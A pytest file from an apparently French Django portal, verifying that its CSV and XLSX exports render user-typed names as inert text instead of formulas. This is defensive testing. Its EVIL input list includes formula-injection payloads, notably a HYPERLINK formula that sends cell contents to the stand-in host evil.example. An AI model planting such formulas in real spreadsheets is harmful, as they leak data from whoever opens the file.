"""Every CSV and XLSX the portal writes keeps what people typed inert (issue 14, point 6).

A name like ``=HYPERLINK(…)`` comes out of each export (the training roster, the proposals'
list, the funders' workbook, the shared helpers) as text: with a leading apostrophe in
CSV; in XLSX as a string cell with its exact text and the quote prefix, never a formula.
CSV is ``;``-separated UTF-8 with a BOM; times are Paris time whatever zone is active;
numbers stay numbers."""

# The proposals' fixtures are imported from admin_fixtures (pytest loads only conftest.py).
# ruff: noqa: F811

import csv
import datetime
import io
import zipfile
from decimal import Decimal
from types import SimpleNamespace

from django.utils import timezone

import pytest
from openpyxl import load_workbook

from members.models import Proposal, Registration
from members.reports import workbook
from members.reports.report_tables import Rate, Table
from members.spreadsheets import cell, csv_response, xlsx_response

from .factories import MemberFactory, RegistrationFactory, TrainingSessionFactory
from .proposals.admin_fixtures import call, make_proposal  # noqa: F401

pytestmark = pytest.mark.django_db

UTC = datetime.UTC
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&C2,"Voir")'
EVIL = [HYPERLINK, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1dSUM(A1)", "\uff0b1"]
# Paris is at UTC+1 until the last Sunday of March 2026 (the 29th, 01:00 UTC), UTC+2 after.
WINTER = datetime.datetime(2026, 3, 29, 0, 30, tzinfo=UTC)  # 01:30 in Paris
SUMMER = datetime.datetime(2026, 7, 1, 10, 0, tzinfo=UTC)  # 12:00 in Paris


def read_csv(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM
    text = response.content.decode("utf-8-sig")
    assert ";" in text.splitlines()[0]
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def read_xlsx(response):
    content = response.content if hasattr(response, "content") else response
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    return load_workbook(io.BytesIO(content))


def assert_inert_xlsx(found, typed):
    """A typed text in XLSX: a string cell, its exact text, the quote prefix if it starts
    like a formula."""
    assert found.data_type == "s"
    # XML reads a carriage return back as a line feed (its line-end rule): still inert.
    assert found.value == typed.replace("\r", "\n")
    assert found.quotePrefix is True


@pytest.mark.parametrize("typed", EVIL)
def test_a_formula_start_gets_an_apostrophe(typed):
    assert cell(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["Amina", "a=b", "", "12", "\uff11\uff12", "Élise-Marie", " =1"])
def test_plain_text_is_left_alone(typed):
    assert cell(typed) == typed


def test_the_shared_helpers_keep_numbers_and_escape_texts():
    header = ["Nom", "Montant", "Nombre", "Texte", "Le"]
    rows = [[name, Decimal("-12.50"), -5, "-5", WINTER] for name in EVIL]
    with timezone.override("Asia/Tokyo"):  # neither the server's nor the request's zone
        rows_csv = read_csv(csv_response("essai", header, rows))
        book = read_xlsx(xlsx_response("essai", "Essai", header, rows))
    assert rows_csv[0] == header
    for typed, row in zip(EVIL, rows_csv[1:], strict=True):
        assert row == ["'" + typed, "-12,50", "-5", "'-5", "29/03/2026 01:30"]
    sheet = book.active
    for typed, row in zip(EVIL, list(sheet.iter_rows())[1:], strict=True):
        assert_inert_xlsx(row[0], typed)
        assert (row[1].data_type, row[1].value) == ("n", Decimal("-12.50"))
        assert (row[2].data_type, row[2].value) == ("n", -5)
        assert_inert_xlsx(row[3], "-5")
        assert row[4].value == datetime.datetime(2026, 3, 29, 1, 30)
        assert row[4].is_date


def test_control_characters_are_dropped_from_xlsx_cells_and_kept_in_csv():
    """A name typed or pasted with a control character (``\x01``, ``\x1b``): openpyxl
    refused the cell and the roster's export answered 500 (found by tests/fuzz). XML
    cannot hold them: they go; tab and line breaks stay."""
    typed = ["A\x01mina", "\x1b[31mRouge", "\x00\x08\x0b\x0c\x1f", "Tab\tet\nligne"]
    header = ["Nom", "Rang"]
    rows = [[text, rank] for rank, text in enumerate(typed)]
    book = read_xlsx(xlsx_response("essai", "Essai", header, rows))
    values = [row[0].value for row in list(book.active.iter_rows())[1:]]
    assert values == ["Amina", "[31mRouge", None, "Tab\tet\nligne"]
    assert [row[0] for row in read_csv(csv_response("essai", header, rows))[1:]] == typed


def test_the_training_roster(client, home, coordinator):
    session = TrainingSessionFactory(capacity=20)
    for index, typed in enumerate(EVIL):
        registration = RegistrationFactory(
            session=session,
            user=MemberFactory(
                username=f"evil{index}", first_name=typed, last_name=f"Z{index}", ambassador=True
            ),
        )
        Registration.objects.filter(pk=registration.pk).update(
            created_at=SUMMER if index % 2 else WINTER
        )
    client.force_login(coordinator)
    url = f"/admin/training_sessions/roster/{session.pk}/"
    with timezone.override("UTC"):
        rows = read_csv(client.get(url + "?export=csv"))
        book = read_xlsx(client.get(url + "?export=xlsx"))
    by_last_name = {row[0]: row for row in rows[1:]}
    for index, typed in enumerate(EVIL):
        row = by_last_name[f"Z{index}"]
        assert row[1] == "'" + typed
        assert row[6] == ("01/07/2026 12:00" if index % 2 else "29/03/2026 01:30")
    xlsx_rows = {row[0].value: row for row in list(book.active.iter_rows())[1:]}
    for index, typed in enumerate(EVIL):
        row = xlsx_rows[f"Z{index}"]
        assert_inert_xlsx(row[1], typed)
        expected = SUMMER if index % 2 else WINTER
        assert row[6].value == timezone.localtime(expected).replace(tzinfo=None)
        assert row[6].value.hour == (12 if index % 2 else 1)


def test_the_proposals_list(client, home, call, coordinator):
    for index, typed in enumerate(EVIL):
        owner = MemberFactory(
            username=f"evil{index}", first_name=typed, last_name="Z", ambassador=True
        )
        proposal = make_proposal(call, owner, title=typed, submitted_at=WINTER)
        Proposal.objects.filter(pk=proposal.pk).update(
            status=Proposal.Status.ACCEPTED, amount_granted=Decimal("1000.00"), decided_at=SUMMER
        )
    client.force_login(coordinator)
    with timezone.override("UTC"):
        rows = read_csv(client.get(f"/admin/proposals/?call={call.pk}&export=csv"))
        book = read_xlsx(client.get(f"/admin/proposals/?call={call.pk}&export=xlsx"))
    body = rows[1:-1]
    assert sorted(row[1] for row in body) == sorted("'" + typed for typed in EVIL)
    for row in body:
        # The owner's full name: « first name Z », stripped (by Django) of a leading tab.
        assert row[3] == "'" + f"{row[1][1:]} Z".strip()
        assert (row[5], row[8]) == ("1500,00", "1000,00")
        assert (row[-2], row[-1]) == ("29/03/2026 01:30", "01/07/2026 12:00")
    sheet_rows = list(book.active.iter_rows())[1:-1]
    assert sorted(row[1].value for row in sheet_rows) == sorted(
        typed.replace("\r", "\n") for typed in EVIL
    )
    for row in sheet_rows:
        assert_inert_xlsx(row[1], row[1].value)
        assert_inert_xlsx(row[3], f"{row[1].value} Z".strip())
        assert (row[5].data_type, row[5].value) == ("n", 1500)
        assert row[-2].value == datetime.datetime(2026, 3, 29, 1, 30)
        assert row[-1].value == datetime.datetime(2026, 7, 1, 12, 0)
    totals = list(book.active.iter_rows())[-1]
    assert (totals[8].data_type, totals[8].value) == ("n", 1000 * len(EVIL))


def test_the_funders_workbook():
    table = Table(
        key="poles",
        title="Actions par pôle",
        header=["Pôle", "Actions", "Montant", "Taux", "Le"],
        rows=[[typed, -3, Decimal("-40.00"), Rate(0.5), SUMMER] for typed in EVIL],
        totals=["Total", -3 * len(EVIL), Decimal("-40.00") * len(EVIL), None, None],
        notes=[HYPERLINK],
    )
    with timezone.override("UTC"):
        book = read_xlsx(workbook.workbook_bytes(SimpleNamespace(tables=[table])))
    rows = list(book["Actions par pôle"].iter_rows())
    for typed, row in zip(EVIL, rows[1 : 1 + len(EVIL)], strict=True):
        assert_inert_xlsx(row[0], typed)
        assert (row[1].data_type, row[1].value) == ("n", -3)
        assert (row[2].data_type, row[2].value) == ("n", -40)
        assert "€" in row[2].number_format
        assert row[3].value == pytest.approx(0.5) and "%" in row[3].number_format
        assert row[4].value == datetime.datetime(2026, 7, 1, 12, 0)
    assert rows[1 + len(EVIL)][1].value == -3 * len(EVIL)
    assert_inert_xlsx(rows[-1][0], HYPERLINK)
